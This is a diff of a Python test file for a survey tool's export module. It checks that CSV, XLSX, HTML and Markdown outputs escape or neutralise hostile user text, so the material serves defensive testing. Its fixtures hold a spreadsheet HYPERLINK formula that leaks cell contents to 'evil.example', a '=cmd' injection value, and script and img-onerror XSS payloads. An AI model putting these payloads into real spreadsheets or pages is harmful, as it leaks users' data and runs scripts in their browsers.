@@ -15,6 +15,8 @@ from openpyxl import load_workbook
 from pptx import Presentation
 from pypdf import PdfReader
 
+from odi.analysis.scoring import score
+from odi.analysis.unmet_needs import UnmetNeeds, unmet_needs
 from odi.exports import (
     card_html,
     card_markdown,
@@ -30,9 +32,7 @@ from odi.exports import (
 )
 from odi.exports.safety import FORMULA_PREFIXES, md_text, neutralise_cell
 from odi.personas import Persona
-from odi.scoring import score
 from odi.survey import Survey
-from odi.unmet_needs import UnmetNeeds, unmet_needs
 
 DAY = date(2026, 5, 1)
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
@@ -51,8 +51,10 @@ HOSTILE_STATEMENTS = {
 
 @pytest.fixture(scope="module")
 def hostile(build) -> UnmetNeeds:
-    survey = build(statements={**HOSTILE_STATEMENTS, "O7": "\tTab first", "O8": "\rCR first"},
-                   name='=cmd("study")')
+    survey = build(
+        statements={**HOSTILE_STATEMENTS, "O7": "\tTab first", "O8": "\rCR first"},
+        name='=cmd("study")',
+    )
     p = Persona(
         id="evil",
         name=HYPERLINK,
@@ -65,7 +67,7 @@ def hostile(build) -> UnmetNeeds:
         inferred={"context": "<b>note</b> =2+2"},
         segment={"role": ["VP Sales"]},
         pins=("O3", "O5"),
-        hides={"O4": "=HYPERLINK(\"http://evil\") " + SCRIPT},
+        hides={"O4": '=HYPERLINK("http://evil") ' + SCRIPT},
     )
     return unmet_needs(survey, p, bootstrap=100)
 
@@ -86,9 +88,19 @@ def test_csv_cells_are_neutralised(hostile: UnmetNeeds) -> None:
     assert rows
     for row in rows:
         for key, value in row.items():
-            if key in ("importance", "satisfaction", "opportunity", "gap", "opportunity_low",
-                       "opportunity_high", "importance_low", "importance_high",
-                       "satisfaction_low", "satisfaction_high", "threshold"):
+            if key in (
+                "importance",
+                "satisfaction",
+                "opportunity",
+                "gap",
+                "opportunity_low",
+                "opportunity_high",
+                "importance_low",
+                "importance_high",
+                "satisfaction_low",
+                "satisfaction_high",
+                "threshold",
+            ):
                 float(value)  # numbers stay numbers
                 continue
             assert not _starts_dangerous(value), (key, value)
@@ -96,7 +108,7 @@ def test_csv_cells_are_neutralised(hostile: UnmetNeeds) -> None:
     assert outcomes["O1"] == "'" + HYPERLINK
     assert outcomes["O5"] == "'-2+3"
     assert rows[0]["persona"] == "'" + HYPERLINK
-    assert rows[0]["study"] == "'=cmd(\"study\")"
+    assert rows[0]["study"] == '\'=cmd("study")'
     gaps = {r["outcome_id"]: float(r["gap"]) for r in rows}
     assert min(gaps.values()) < 0  # a negative number, left as a number
 
@@ -104,8 +116,7 @@ def test_csv_cells_are_neutralised(hostile: UnmetNeeds) -> None:
 def test_xlsx_has_no_formulas(hostile: UnmetNeeds, survey: Survey) -> None:
     books = [
         unmet_needs_xlsx(hostile, exported=DAY),
-        scores_xlsx(score(survey, bootstrap=0), study=HYPERLINK, scale=survey.scale,
-                    exported=DAY),
+        scores_xlsx(score(survey, bootstrap=0), study=HYPERLINK, scale=survey.scale, exported=DAY),
     ]
     for data in books:
         wb = load_workbook(io.BytesIO(data))
@@ -125,8 +136,9 @@ def test_xlsx_has_no_formulas(hostile: UnmetNeeds, survey: Survey) -> None:
 
 def test_scores_csv_is_neutralised(build) -> None:
     survey = build(statements=HOSTILE_STATEMENTS)
-    text = scores_csv(score(survey, bootstrap=0), study="=evil()", scale=survey.scale,
-                      exported=DAY).decode("utf-8-sig")
+    text = scores_csv(
+        score(survey, bootstrap=0), study="=evil()", scale=survey.scale, exported=DAY
+    ).decode("utf-8-sig")
     for row in csv.reader(io.StringIO(text)):
         for value in row:
             if not re.fullmatch(r"-?\d+(\.\d+)?(e-?\d+)?", value):
@@ -140,8 +152,9 @@ def test_html_escapes_all_user_text(hostile: UnmetNeeds) -> None:
     assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in page
     assert "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;" in page
     assert "&lt;b&gt;note&lt;/b&gt;" in page
-    land = landscape_html(hostile.scores, study=SCRIPT, definition=IMG, n=1,
-                          method="m", exported=DAY).decode("utf-8")
+    land = landscape_html(
+        hostile.scores, study=SCRIPT, definition=IMG, n=1, method="m", exported=DAY
+    ).decode("utf-8")
     head = land.split("<div", 1)[0]  # the part the workbench writes, before the figure
     assert SCRIPT not in head
     assert "&lt;script&gt;" in head
@@ -170,19 +183,41 @@ def test_markdown_tables_keep_their_shape(hostile: UnmetNeeds, kind: str) -> Non
 
 
 def test_markdown_escapes_inline_markup() -> None:
-    assert md_text("**bold** _it_ [link](http://x)") == "\\*\\*bold\\*\\* \\_it\\_ \\[link\\](http://x)"
+    assert (
+        md_text("**bold** _it_ [link](http://x)")
+        == "\\*\\*bold\\*\\* \\_it\\_ \\[link\\](http://x)"
+    )
     assert md_text("line\nbreak") == "line break"
 
 
 @pytest.mark.parametrize(
     ("value", "expected"),
     [
-        ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"),
-        ("\rx", "'\rx"), ("  =1", "'  =1"), ("\x00=1", "'=1"), ("a=1", "a=1"), (-1.5, -1.5),
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@x", "'@x"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("  =1", "'  =1"),
+        ("\x00=1", "'=1"),
+        ("a=1", "a=1"),
+        (-1.5, -1.5),
         ("Müller", "Müller"),
     ],
-    ids=["equals", "plus", "minus", "at", "tab", "cr", "spaces-then-equals", "nul-then-equals",
-         "inner-equals", "negative-number", "unicode"],
+    ids=[
+        "equals",
+        "plus",
+        "minus",
+        "at",
+        "tab",
+        "cr",
+        "spaces-then-equals",
+        "nul-then-equals",
+        "inner-equals",
+        "negative-number",
+        "unicode",
+    ],
 )
 def test_neutralise_cell(value: object, expected: object) -> None:
     assert neutralise_cell(value) == expected
